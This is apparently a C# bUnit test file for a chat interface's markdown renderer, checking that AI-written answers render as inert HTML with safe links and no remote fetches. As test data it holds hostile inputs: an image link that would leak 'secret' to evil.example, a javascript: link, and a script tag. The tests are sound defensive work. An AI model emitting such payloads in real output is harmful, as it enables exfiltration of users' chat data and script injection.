using AngleSharp.Dom;
using Bunit;
using Edison.Core.Chat;
using Edison.Core.Inference.Prompts;
using Edison.Tests.TestSupport;
using Edison.Web.Components.Chat;

namespace Edison.Tests.Web.Components;

/// <summary>Model output is untrusted: whatever it writes renders as inert text, safe links and nothing fetched.</summary>
public sealed class HostileMarkdownTests : ChatPageContext
{
    private static readonly HashSet<string> InertElements =
    [
        "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "pre", "code", "strong",
        "em", "del", "ins", "mark", "sub", "sup", "a", "table", "colgroup", "col", "thead", "tbody", "tr", "th", "td",
        "div", "span", "button", "input",
    ];

    public static TheoryData<string> Vectors => new(HostileMarkdown.Vectors.Select(v => v.Name));

    [Theory]
    [MemberData(nameof(Vectors))]
    public void A_hostile_answer_renders_inert(string vector)
    {
        var markdown = HostileMarkdown.Vectors.Single(v => v.Name == vector).Markdown;

        var answer = RenderAnswer(markdown).Find(".markdown");

        foreach (var element in answer.QuerySelectorAll("*"))
        {
            Assert.Contains(element.LocalName, InertElements);
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{vector}: <{element.LocalName} {attribute.Name}>");
                Assert.DoesNotContain(attribute.Name, new[] { "src", "srcset", "action", "formaction", "data", "poster", "background" });
            }

            if (element.GetAttribute("style") is { } style)
            {
                Assert.Matches("^(text-align|width): [a-z0-9%.]+;?$", style);
            }

            if (element.GetAttribute("href") is { } href)
            {
                Assert.Matches("^(https?://|mailto:|/|#fn)", new string(href.Where(c => c > ' ').ToArray()).ToLowerInvariant());
            }
        }
    }

    [Theory]
    [InlineData("![](http://evil.example/leak?q=secret)", "evil.example")]
    [InlineData("![chart](https://cdn.example.org/chart.png)", "cdn.example.org")]
    [InlineData("![x](//evil.example/b.png)", "evil.example")]
    public void An_image_is_not_fetched_but_shown_as_a_link_naming_its_host(string markdown, string host)
    {
        var answer = RenderAnswer(markdown).Find(".markdown");

        Assert.Empty(answer.QuerySelectorAll("img, picture, source, svg"));
        var link = answer.QuerySelector("a.image-link")!;
        Assert.Contains(host, link.TextContent);
        Assert.StartsWith("Image: ", link.TextContent);
        Assert.Contains("noreferrer", link.GetAttribute("rel"));
    }

    [Fact]
    public void A_link_to_a_dangerous_address_keeps_its_text_and_loses_the_link()
    {
        var answer = RenderAnswer("Read [the manual](javascript:alert(1)) first.").Find(".markdown");

        Assert.Empty(answer.QuerySelectorAll("a"));
        Assert.Equal("Read the manual first.", answer.TextContent.Trim());
    }

    [Fact]
    public void Ordinary_links_stay_and_open_safely()
    {
        var item = RenderAnswer("See [the docs](https://example.org/docs), [home](/c/1) and <mailto:me@example.org>.");

        var links = item.FindAll(".markdown a");
        Assert.Equal(["https://example.org/docs", "/c/1", "mailto:me@example.org"], links.Select(a => a.GetAttribute("href")));
        Assert.All(links.Take(2), a => Assert.Contains("noopener", a.GetAttribute("rel")));
    }

    [Fact]
    public void What_people_write_in_chat_still_renders()
    {
        var answer = RenderAnswer(
            "**bold** ~~gone~~ H~2~O\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\nA claim[^1] and https://example.org\n\n[^1]: The source.")
            .Find(".markdown");

        Assert.Equal("bold", answer.QuerySelector("strong")!.TextContent);
        Assert.Equal("gone", answer.QuerySelector("del")!.TextContent);
        Assert.Equal("2", answer.QuerySelector("sub")!.TextContent);
        Assert.Equal("text-align: right", answer.QuerySelectorAll("td")[1].GetAttribute("style")!.TrimEnd(';'));
        Assert.Equal(2, answer.QuerySelectorAll("input[type=checkbox][disabled]").Length);
        Assert.Equal("#fn:1", answer.QuerySelector("a.footnote-ref")!.GetAttribute("href"));
        Assert.Equal("fn:1", answer.QuerySelector(".footnotes li")!.Id);
        Assert.Equal("https://example.org", answer.QuerySelectorAll("a").Last(a => a.ClassName != "footnote-back-ref").GetAttribute("href"));
    }

    [Fact]
    public void Code_blocks_render_with_a_copy_button_and_escaped_content()
    {
        var item = RenderAnswer("```html\n<script>alert(1)</script>\n```");

        Assert.NotNull(item.Find(".code-block [data-testid=copy-code]"));
        Assert.Equal("language-html", item.Find(".code-block pre code").ClassName);
        Assert.Equal("<script>alert(1)</script>", item.Find(".code-block pre code").TextContent.Trim());
        Assert.Empty(item.FindAll("script"));
    }

    [Fact]
    public void Code_blocks_name_their_language_in_a_header_that_holds_the_copy_button_beside_the_code()
    {
        var item = RenderAnswer("```python\nprint(1)\n```\n\n```\nplain\n```");

        var blocks = item.FindAll(".code-block");
        Assert.Equal(["python", ""], blocks.Select(block => block.QuerySelector(".code-header .code-lang")!.TextContent));
        Assert.All(blocks, block => Assert.NotNull(block.QuerySelector(".code-header [data-testid=copy-code]")));
        Assert.All(blocks, block => Assert.Empty(block.QuerySelectorAll("pre [data-testid=copy-code]")));
    }

    [Fact]
    public void Maths_in_each_way_models_write_it_is_marked_for_typesetting_and_money_is_not_maths()
    {
        var answer = RenderAnswer(
            "Inline $x^2$ and \\(a^2+b^2\\), for $5 and $10.\n\n$$E=mc^2$$ and \\[c^2\\]\n\n$$\n\\int_0^1 x\\,dx\n$$\n\nNot closed \\( here.")
            .Find(".markdown");

        var maths = answer.QuerySelectorAll(".math");
        Assert.Equal(["\\(x^2\\)", "\\(a^2+b^2\\)", "\\(E=mc^2\\)", "\\(c^2\\)", "\\[\n\\int_0^1 x\\,dx\n\\]"], maths.Select(m => m.TextContent.Trim()));
        Assert.Equal([false, false, true, true], maths.Take(4).Select(m => m.ClassList.Contains("math-display")));
        Assert.Equal("div", maths[4].LocalName);
        Assert.Contains("for $5 and $10.", answer.TextContent);
        Assert.Contains("Not closed ( here.", answer.TextContent);
    }

    [Fact]
    public void Questions_and_answers_take_their_direction_from_their_own_text()
    {
        var answer = RenderAnswer("مرحبا، hello.");
        var question = Render<ChatMessageItem>(p => p.Add(c => c.Message, new ChatBubble(ChatTurn.User, "hello، مرحبا")));

        Assert.Equal("auto", answer.Find(".markdown").GetAttribute("dir"));
        Assert.Equal("auto", question.Find(".user-text").GetAttribute("dir"));
    }

    private IRenderedComponent<ChatMessageItem> RenderAnswer(string markdown) =>
        Render<ChatMessageItem>(p => p.Add(c => c.Message, new ChatBubble(ChatTurn.Assistant, markdown)));
}
